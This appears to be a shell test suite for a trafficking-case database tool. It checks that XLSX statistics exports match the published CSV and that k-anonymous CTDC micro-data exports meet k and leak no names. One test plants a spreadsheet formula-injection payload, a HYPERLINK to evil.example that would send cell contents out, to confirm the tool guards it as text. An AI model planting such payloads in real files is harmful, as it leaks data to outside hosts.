#!/bin/sh
# Exports for sharing (issue 5): every statistics table as XLSX (the
# published CSV's cells, suppressed counts empty, Arabic right to left,
# formulas guarded), and k-anonymous micro-data in the CTDC layout, whose
# k-anonymity is checked by counting equivalence classes here, apart from
# the C code.
. "$TESTS_DIR/cli/lib.sh"
mkdir -p "$T/bin" && ln -s "$SANAD" "$T/bin/sanad" && PATH="$T/bin:$PATH" && export PATH

# The rows of an XLSX sheet's table (from row 1 to the first missing row)
# as CSV: shared strings as their text, numbers as integers, blanks empty.
cat > xlsx2csv.py <<'PY'
import csv, re, subprocess, sys
import xml.etree.ElementTree as ET
ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
def part(name):
    return subprocess.run(["unzip", "-p", sys.argv[1], name], check=True, capture_output=True).stdout
strings = ["".join(t.text or "" for t in si.iter("{%s}t" % ns["m"]))
           for si in ET.fromstring(part("xl/sharedStrings.xml")).findall("m:si", ns)]
rows = {}
for row in ET.fromstring(part("xl/worksheets/sheet1.xml")).iter("{%s}row" % ns["m"]):
    cells = {}
    for c in row.findall("m:c", ns):
        col = re.match(r"[A-Z]+", c.get("r")).group(0)
        v = c.find("m:v", ns)
        if v is None: val = ""
        elif c.get("t") == "s": val = strings[int(v.text)]
        else: val = str(int(float(v.text))) if float(v.text).is_integer() else v.text
        cells[ord(col) - 65] = val
    rows[int(row.get("r"))] = cells
ncols = len(rows[1])
w = csv.writer(sys.stdout, lineterminator="\n")
r = 1
while r in rows:
    w.writerow([rows[r].get(i, "") for i in range(ncols)])
    r += 1
PY

check "a demo database" sh -c 'sanad demo --db d.db --cases 300 --seed 5 > /dev/null'

# ---- XLSX ----
published_xlsx() {
	sanad stats --db d.db --by year,sex --publish --format csv > pub.csv &&
	sanad stats --db d.db --by year,sex --publish --format xlsx --output pub.xlsx &&
	python3 xlsx2csv.py pub.xlsx > from-xlsx.csv &&
	same from-xlsx.csv pub.csv &&
	# the suppressed counts are there, empty, in both
	n=$(awk -F, 'NR > 1 && $3 == ""' pub.csv | wc -l) && [ "$n" -ge 2 ] &&
	equals "$(awk -F, 'NR > 1 && $3 == ""' from-xlsx.csv | wc -l)" "$n"
}
check "published XLSX holds the published CSV's cells: counts, and empty cells where it is empty" published_xlsx
check "a published workbook explains the empty cells and carries the footnote" sh -c '
	unzip -p pub.xlsx xl/sharedStrings.xml > s.xml &&
	grep -q "An empty shaded count is suppressed" s.xml &&
	grep -q "cells suppressed to protect privacy: counts from 1 to 4" s.xml &&
	! unzip -p pub.xlsx xl/worksheets/sheet1.xml | grep -q rightToLeft'
check "counts are numbers, not text" sh -c '
	unzip -p pub.xlsx xl/worksheets/sheet1.xml > sheet.xml &&
	grep -q "<v>300</v>" sheet.xml && ! grep -q "<f>" sheet.xml'
arabic_xlsx() {
	sanad stats --db d.db --by year,sex --publish --lang ar --labels --format xlsx --output ar.xlsx &&
	unzip -p ar.xlsx xl/worksheets/sheet1.xml | grep -q 'rightToLeft="1"' &&
	unzip -p ar.xlsx xl/sharedStrings.xml > ar.xml &&
	grep -q "أنثى" ar.xml && grep -q "المجموع" ar.xml && grep -q "حُجبت" ar.xml &&
	sanad stats --db d.db --by year,sex --publish --lang ar --labels --format csv > ar.csv &&
	python3 xlsx2csv.py ar.xlsx > ar-from-xlsx.csv && same ar-from-xlsx.csv ar.csv
}
check "an Arabic workbook is right to left, with Arabic labels and footnote" arabic_xlsx
raw_xlsx() {
	sanad stats --db d.db --by nationality,sex --format csv > raw.csv &&
	sanad stats --db d.db --by nationality,sex --format xlsx --output raw.xlsx &&
	python3 xlsx2csv.py raw.xlsx > raw-from-xlsx.csv && same raw-from-xlsx.csv raw.csv &&
	unzip -p raw.xlsx xl/sharedStrings.xml | grep -q "do not publish"
}
check "a raw table as XLSX: every count of the raw CSV, marked not for publication" raw_xlsx
guarded() {
	sanad org add --db d.db --code evil --name '=HYPERLINK("http://evil.example/?"&A1)' > /dev/null &&
	sanad case add --db d.db --org evil snd_YearOfRegistration=2020 prs_Gender=Feminine > /dev/null &&
	sanad stats --db d.db --by organisation --labels --format xlsx --output org.xlsx &&
	unzip -p org.xlsx xl/sharedStrings.xml > org.xml &&
	grep -qF "<t>'=HYPERLINK(\"http://evil.example/?\"&amp;A1)</t>" org.xml &&
	! unzip -p org.xlsx xl/worksheets/sheet1.xml | grep -q "<f>" &&
	# the same guard as the CSV's
	sanad stats --db d.db --by organisation --labels --format csv > org.csv &&
	python3 xlsx2csv.py org.xlsx > org-from-xlsx.csv && same org-from-xlsx.csv org.csv
}
check "a label that starts with = is guarded as in the CSV, never a formula" guarded
no_output() {
	! sanad stats --db d.db --by year --format xlsx > out 2> err &&
	contains err "needs --output FILE" && [ ! -s out ]
}
check "--format xlsx without --output is refused (binary to a terminal)" no_output
check_fails "--output without --format xlsx is refused" sanad stats --db d.db --by year --output x.xlsx
check "a workbook that cannot be written leaves nothing behind" sh -c '
	! sanad stats --db d.db --by year --format xlsx --output nodir/y.xlsx 2> err &&
	grep -q "nodir/y.xlsx" err && [ ! -e nodir ]'

# ---- k-anonymous CTDC micro-data ----

# Independent check: every combination of the quasi-identifier columns (all
# seven) occurs at least k times; prints rows and classes.
cat > classes.py <<'PY'
import csv, sys
from collections import Counter
rows = list(csv.reader(open(sys.argv[1])))
k = int(sys.argv[2])
assert rows[0] == ["yearOfRegistration", "gender", "ageBroad", "citizenship",
                   "isForcedLabour", "isSexualExploit", "CountryOfExploitation"], rows[0]
classes = Counter(tuple(r) for r in rows[1:])
small = [c for c, n in classes.items() if n < k]
assert not small, "classes smaller than %d: %r" % (k, small[:5])
print(len(rows) - 1, len(classes), min(classes.values()) if classes else 0)
PY
# The report's numbers: selected written suppressed classes smallest.
cat > report.py <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
print(r["selected"], r["written"], r["suppressed"], r["classes"], r["smallest_class"])
PY

anon_all() {
	sanad export --db d.db --format ctdc-anon --scope all --output anon.csv --report anon.json 2> err &&
	python3 classes.py anon.csv 5 > got && read rows classes smallest < got &&
	python3 report.py anon.json > rep && read selected written suppressed rclasses rsmallest < rep &&
	equals "$selected" 301 && equals "$rows" "$written" &&
	equals "$written" $((selected - suppressed)) &&
	equals "$classes" "$rclasses" && equals "$smallest" "$rsmallest" &&
	# no more than 5% suppressed
	[ $((suppressed * 100)) -le $((selected * 5)) ] &&
	contains err "301 cases selected (scope all); $written written, $suppressed suppressed" &&
	contains err "k = 5: $classes equivalence classes, the smallest of $smallest"
}
check "k = 5 over every case: each class has 5 rows or more, counted independently; the report agrees" anon_all
check "k = 10 and k = 3 hold too" sh -c '
	sanad export --db d.db --format ctdc-anon --scope all --k 10 --output a10.csv 2> /dev/null &&
	python3 classes.py a10.csv 10 > /dev/null &&
	sanad export --db d.db --format ctdc-anon --scope all --k 3 --max-suppress 0 --output a3.csv 2> /dev/null &&
	python3 classes.py a3.csv 3 > g3 && read rows c s < g3 && [ "$rows" = 301 ]'
no_identity() {
	sanad export --db d.db --format htcds-csv > full.csv &&
	# the demo's names are in the full export, and none in the micro-data
	python3 - <<'PY'
import csv
full = list(csv.DictReader(open("full.csv")))
names = {r[f] for r in full for f in ("prs_FirstName", "prs_SecondName") if r.get(f)}
assert len(names) > 50, len(names)
text = open("anon.csv").read()
leaked = [n for n in names if n in text]
assert not leaked, leaked[:5]
PY
}
check "no identity column: the header is CTDC's seven columns, and no name appears" no_identity
national() {
	sanad stats --db d.db --by year --scope national --format json 2> nat.err > nat.json &&
	n=$(python3 -c 'import json; print(json.load(open("nat.json"))["total_victims"])') &&
	merged=$(sed -n "s/.*national pool: \([0-9]*\) records of a person.*/\1/p" nat.err) &&
	[ "$merged" -gt 0 ] &&
	sanad export --db d.db --format ctdc-anon --output nat.csv --report nat.r.json 2> /dev/null &&
	python3 report.py nat.r.json > rep && read selected written suppressed c s < rep &&
	equals "$selected" "$n" && [ "$n" -lt 301 ] &&
	python3 -c 'import json, sys; r = json.load(open("nat.r.json")); assert r["scope"] == "national" and r["duplicates_merged"] == int(sys.argv[1]), r' "$merged" &&
	# an organisation that leaves the pool leaves the export at once
	sanad org update --db d.db police-atu --pool no > /dev/null &&
	sanad stats --db d.db --by year --scope national --format json 2> /dev/null > nat2.json &&
	n2=$(python3 -c 'import json; print(json.load(open("nat2.json"))["total_victims"])') &&
	sanad export --db d.db --format ctdc-anon --output nat2.csv --report nat2.r.json 2> /dev/null &&
	python3 report.py nat2.r.json > rep2 && read selected2 w s c s2 < rep2 &&
	equals "$selected2" "$n2" && [ "$n2" -lt "$n" ]
}
check "the default scope is the national pool: the cases national statistics count" national
check "--scope org and --year select those cases" sh -c '
	sanad export --db d.db --format ctdc-anon --org evil --k 2 --output e.csv --report e.json 2> /dev/null &&
	python3 report.py e.json > rep && read selected w s c m < rep && [ "$selected" = 1 ] && [ "$w" = 0 ] &&
	sanad stats --db d.db --by year --year 2020 --format json > y.json &&
	n=$(python3 -c "import json; print(json.load(open(\"y.json\"))[\"total_victims\"])") &&
	sanad export --db d.db --format ctdc-anon --scope all --year 2020 --output y.csv --report yr.json 2> /dev/null &&
	python3 report.py yr.json > rep && read selected w s c m < rep && [ "$selected" = "$n" ]'

# Rows of the CTDC reference subset in classes of 5 or more: nothing needs
# generalising, so every value comes back as CTDC wrote it.
round_trip() {
	ref="$REFERENCE_DIR/ctdc/ctdc-global-2020-subset.csv"
	head -n 1 "$ref" > in.csv &&
	for row in "2015,Male,30--38,MM,1,0,ID" "2014,Female,30--38,ID,1,0,AE" \
		   "2016,Male,30--38,UA,1,0,RU" "2018,Male,9--17,KH,0,1,KH"; do
		grep -x -m 5 -- "$row" "$ref" >> in.csv || return 1
	done
	equals "$(sed 1d in.csv | wc -l)" 20 &&
	sanad init --db c.db > /dev/null &&
	sanad org add --db c.db --code ctdc --name CTDC > /dev/null &&
	sanad import --db c.db --format ctdc --org ctdc --quiet in.csv &&
	sanad export --db c.db --format ctdc-anon --scope all --output out.csv --report out.json 2> err &&
	sort in.csv > a && sort out.csv > b && same a b &&
	python3 -c '
import json; r = json.load(open("out.json"))
assert r["suppressed"] == 0 and r["written"] == 20 and r["classes"] == 4, r
assert all(c["level"] == 0 and c["records_changed"] == 0 for c in r["columns"]), r["columns"]'
}
check "CTDC reference rows round-trip unchanged when they are already 5-anonymous" round_trip
generalised() {
	head -n 1 in.csv > g.csv &&
	for i in 1 2 3; do echo "2016,Male,30--38,UA,1,0,RU"; echo "2016,Male,30--38,BY,1,0,RU"; done >> g.csv &&
	sanad init --db g.db > /dev/null && sanad org add --db g.db --code o --name O > /dev/null &&
	sanad import --db g.db --format ctdc --org o --quiet g.csv &&
	sanad export --db g.db --format ctdc-anon --scope all --output g.out --report g.json 2> err &&
	equals "$(sed 1d g.out | sort -u)" "2016,Male,30--38,Eastern Europe,1,0,RU" &&
	equals "$(sed 1d g.out | wc -l)" 6 &&
	python3 -c '
import json; r = json.load(open("g.json"))
lv = {c["quasi_identifier"]: (c["level"], c["level_name"], c["records_changed"]) for c in r["columns"]}
assert lv["citizenship"] == (1, "UN M49 sub-region", 6), lv
assert all(v[0] == 0 for q, v in lv.items() if q != "citizenship"), lv
assert r["suppressed"] == 0 and r["classes"] == 1 and r["smallest_class"] == 6, r' &&
	contains err "citizenship  *level 1 of 3 (UN M49 sub-region): 6 records changed"
}
check "two nationalities of one sub-region, 3 rows each, become that sub-region at k = 5" generalised
cannot_reach() {
	sanad export --db g.db --format ctdc-anon --scope all --k 7 --max-suppress 1 --output s.csv --report s.json 2> err &&
	equals "$(cat s.csv)" "yearOfRegistration,gender,ageBroad,citizenship,isForcedLabour,isSexualExploit,CountryOfExploitation" &&
	contains err "6 cases selected (scope all); 0 written, 6 suppressed (limit 100.0%)"
}
check "a group that cannot reach k is suppressed when the limit allows, and said so" cannot_reach

refused() {
	for args in "--k 1" "--k 0" "--k five" "--k 1001" "--max-suppress 2" "--max-suppress -0.1" \
		    "--max-suppress x" "--scope city" "--scope org" "--scope national --org evil" \
		    "--year 1800" "--no-identity"; do
		# shellcheck disable=SC2086
		if sanad export --db d.db --format ctdc-anon --output r.csv $args 2> err; then
			echo "accepted: $args"; return 1
		fi
		[ -s err ] || { echo "no message for: $args"; return 1; }
	done
	! sanad export --db d.db --format ctdc-anon --output r.csv --k 1 2> err && contains err "k must be" &&
	! sanad export --db d.db --format ctdc-anon --output r.csv --max-suppress 2 2> err &&
	contains err "max-suppress '2'" &&
	! sanad export --db d.db --format ctdc-anon 2> err && contains err "needs --output FILE" &&
	! sanad export --db d.db --format htcds-csv --k 5 2> err && contains err "only applies with --format ctdc-anon" &&
	! sanad export --db d.db --format ctdc-anon --scope org --org nosuch --output r.csv 2> err &&
	contains err "nosuch" &&
	[ ! -e r.csv ]
}
check "bad options are refused with a message naming them, and no file is written" refused
finish
